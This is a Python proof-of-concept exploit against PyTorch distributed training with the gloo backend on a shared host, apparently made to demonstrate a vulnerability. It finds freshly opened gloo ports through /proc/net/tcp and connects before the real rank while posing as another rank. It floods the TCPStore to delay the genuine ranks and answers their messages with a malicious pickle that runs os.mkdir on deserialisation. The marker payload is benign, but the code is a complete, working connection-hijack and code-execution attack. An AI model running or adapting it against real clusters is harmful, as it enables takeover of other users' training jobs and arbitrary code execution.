"""Another user of a host who takes connections between the ranks of a run: `python connection_thief.py MARK SKIP`.

It looks for ports that gloo has just opened, except for the first SKIP of them, and connects before the real rank does.
It keeps the run's store busy, so that this one comes late. Then it answers whatever the run asks for: with a copy of
what the run itself sends, where it sends something, else with a pickle that would make the folder MARK. It prints what
it does, a line each.
"""

import os
import pickle
import selectors
import socket
import struct
import sys
import time
from collections import Counter
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

NOBODY = 65534
HEADER = struct.Struct("<6Q")
"""Of every message of gloo: its length, its kind, a slot, and for data an offset, a length and another offset."""
DATA, WILL_SEND, WILL_RECEIVE = 1, 2, 3
LARGE, CLIENTS = 4_000_000, 4
"""What each of so many clients writes into the store, again and again."""
SIZE = 8
"""Bytes of a number, such as the size of what comes next."""


class Planted:
    """What would run if it was unpickled."""

    def __init__(self, mark: str) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (self.mark,)


def open_ports() -> list[int]:
    """The ports at which others listen here."""
    found = []
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        fields = line.split()
        if fields[3] == "0A" and int(fields[7]) != NOBODY:
            found.append(int(fields[1].split(":")[1], 16))
    return found


class Taken:
    """A connection that a rank takes for that of another one."""

    def __init__(self, port: int, pretends: int, pickled: bytes) -> None:
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=1)
        self.socket.sendall(struct.pack("<q", pretends))  # the number of the connection: that of the rank
        self._pickled, self._incoming = pickled, b""
        self._copies: dict[int, list[bytes]] = {}
        self._announced: Counter[int] = Counter()
        self._asked: list[tuple[int, int]] = []

    def read(self) -> None:
        """Answer what has come."""
        part = self.socket.recv(1 << 20)
        if not part:
            raise ConnectionError
        self._incoming += part
        while len(self._incoming) >= HEADER.size:
            total, kind, slot, _, length, _ = HEADER.unpack_from(self._incoming)
            if len(self._incoming) < total:
                return
            body, self._incoming = self._incoming[HEADER.size : total], self._incoming[total:]
            self._answer(kind, slot, body, length)

    def _answer(self, kind: int, slot: int, body: bytes, length: int) -> None:
        if kind == WILL_SEND:
            self._announced[slot] += 1
            self.socket.sendall(HEADER.pack(HEADER.size, WILL_RECEIVE, slot, 0, length, 0))
        elif kind == DATA:
            self._copies.setdefault(slot, []).append(body)
        elif kind == WILL_RECEIVE:
            self._asked.append((slot, length))

    def reply(self) -> None:
        """Send what the rank waits for; a while after it asked, since its own part may still come."""
        asked, self._asked = self._asked, []
        for slot, length in asked:
            if self._announced[slot] and not self._copies.get(slot):
                self._asked.append((slot, length))
                continue
            number = struct.pack("<q", len(self._pickled))
            content = number if length == SIZE else self._pickled
            if self._announced[slot]:
                self._announced[slot] -= 1
                content = self._copies[slot].pop(0)
            content = content[:length].ljust(length, b"\0")
            self.socket.sendall(HEADER.pack(HEADER.size + length, DATA, slot, 0, length, 0) + content)
            print("answered", length, flush=True)


def keep_busy(port: int) -> None:
    """Have the store work for us, so that the ranks wait; in a process of its own."""
    from torch._C._distributed_c10d import TCPStore

    if os.fork():
        return
    with suppress(Exception):
        store = TCPStore("127.0.0.1", port, None, False, timedelta(seconds=5), wait_for_workers=False)
        value = "x" * LARGE
        while True:
            store.set("busy", value)
    os._exit(0)


def main(mark: str, skip: int) -> None:
    import encodings.idna  # noqa: F401 (both before, since another user may not read them)

    import torch._C._distributed_c10d  # noqa: F401

    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    pickled = pickle.dumps(Planted(mark))
    known: list[int] = []
    taken: list[Taken] = []
    print("ready", flush=True)
    selector = selectors.DefaultSelector()
    replied = 0.0
    while True:
        for port in set(open_ports()) - set(known):
            known.append(port)
            if len(known) == 1 + skip:
                for _ in range(CLIENTS):
                    keep_busy(known[0])  # the store, which is there before the ranks
            if len(known) <= 1 + skip:
                continue
            for pretends in (0, 1):
                with suppress(OSError):
                    taken.append(Taken(port, pretends, pickled))
                    selector.register(taken[-1].socket, selectors.EVENT_READ, taken[-1])
                    print("connected", port, pretends, flush=True)
        for key, _ in selector.select(0.0005):
            try:
                key.data.read()
            except OSError:
                selector.unregister(key.fileobj)
        if time.monotonic() - replied > 0.05:
            replied = time.monotonic()
            for connection in taken:
                with suppress(OSError):
                    connection.reply()


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
